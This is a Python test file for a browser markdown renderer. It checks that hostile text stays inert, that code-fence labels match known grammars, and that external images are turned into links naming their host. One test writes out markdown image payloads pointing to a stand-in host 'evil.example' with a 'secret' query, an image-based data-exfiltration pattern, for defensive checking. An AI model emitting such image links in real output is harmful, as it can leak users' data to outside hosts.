"""Hostile text does not run, sends no request, and stays in its place on the page."""

import pytest

from browser.hostile import PAYLOADS, POSITIONS, payloads_at, split_randomly
from browser.probe import Probe

pytestmark = pytest.mark.browser


@pytest.mark.timeout(300)
def test_every_hostile_text_stays_text_in_every_position(probe: Probe) -> None:
    """A third of the texts, at each position another one, streams in pieces, and is looked at after each of them."""
    for n, position in enumerate(POSITIONS):
        texts = payloads_at(position)
        probe.run([split_randomly(text, at) if at % 3 == n % 3 else [text] for at, text in enumerate(texts)])


def test_the_info_string_of_a_code_fence_selects_a_known_grammar_or_none(probe: Probe) -> None:
    words = [payload for kind in PAYLOADS.values() for payload in kind]
    assert probe.languages(words + [word.split()[0] for word in words if word.split()]) == []


def test_an_external_image_becomes_a_link_that_names_its_host(probe: Probe) -> None:
    where = "https://evil.example/a.png?q=secret"
    reference = f"\n\n[b]: {where} 'title'\n"
    pictures = [
        f"![a]({where})",
        f"![]({where})",
        f"![a](<{where}> 'title')",
        f"![a][b]{reference}",
        f"![b][]{reference}",
        f"![b]{reference}",
    ]
    pictures += [
        f"[![a]({where})](https://example.com)",
        f"[![a][b]](https://example.com){reference}",
        f"| ![a]({where}) |\n|-|\n",
    ]
    probe.run([split_randomly(text, seed) for seed, text in enumerate(pictures)] + [[text] for text in pictures])
    for text in pictures:
        shown = probe.render(text)
        assert "evil.example" in shown["text"], text
        assert not shown["images"]
